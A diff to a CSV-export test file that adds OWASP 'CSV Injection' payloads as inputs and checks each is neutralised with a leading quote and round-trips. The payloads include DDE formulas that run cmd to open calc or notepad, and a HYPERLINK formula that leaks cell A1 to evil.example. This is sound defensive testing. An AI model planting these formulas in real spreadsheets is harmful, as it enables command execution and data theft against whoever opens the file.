@@ -9,6 +9,26 @@ describe('CSV export', () => {
       expect(neutralise(bad).startsWith("'")).toBe(true);
     }
     expect(neutralise('plain text')).toBe('plain text');
+    // The OWASP "CSV Injection" payloads: every one opens as text, the cell read back begins with '.
+    const owasp = [
+      "=cmd|' /C calc'!A0",
+      "=cmd|' /C notepad'!'A1'",
+      '=1+2";=1+2',
+      '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
+      "@SUM(1+9)*cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C calc'!A0",
+      "+3+cmd|' /C calc'!A0",
+      '=HYPERLINK("http://evil.example/?leak="&A1,"Error: click for details")',
+      '\t=1+1',
+      '\r=1+1',
+      "'=1+1",
+    ];
+    const file = toCsv(['cell'], owasp.map((v) => [v]));
+    const back = (parse(file, { columns: true }) as { cell: string }[]).map((r) => r.cell);
+    for (const [i, cell] of back.entries()) {
+      expect(cell.startsWith("'")).toBe(true);
+      expect(unneutralise(cell)).toBe(owasp[i]);
+    }
     expect(csvCell(-3)).toBe('-3'); // numbers are numbers, not formulas
   });
 
